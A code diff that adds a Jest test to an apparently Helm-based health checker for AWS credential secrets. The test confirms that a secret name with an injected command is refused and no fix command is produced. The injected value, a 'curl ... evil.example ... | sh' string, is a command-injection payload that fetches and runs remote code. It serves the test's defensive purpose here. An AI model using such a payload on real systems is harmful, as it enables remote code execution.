@@ -180,6 +180,15 @@ describe('secrets.aws-credentials', () => {
     expect((await one(awsCredentialsSecret, s)).status).toBe('skipped');
   });
 
+  it('never puts a hostile name from the release into a fix command: it is refused as a name, with no command to paste', async () => {
+    const s = await healthyScenario();
+    s.helm.values = chartValues({ awsCredentialsSecret: 'x; curl https://evil.example/p | sh #' });
+    const o = await one(awsCredentialsSecret, s);
+    expect(o.status).toBe('fail');
+    expect(o.summary).toMatch(/^awsCredentialsSecret in the release's values is not a valid secret name: /);
+    expect(o.fix).toBeUndefined();
+  });
+
   it('needs the key named like the secret, as the chart sets AWS_SHARED_CREDENTIALS_FILE', async () => {
     const s = await healthyScenario();
     s.helm.values = chartValues({ awsCredentialsSecret: 'aws-ecr-credentials' });
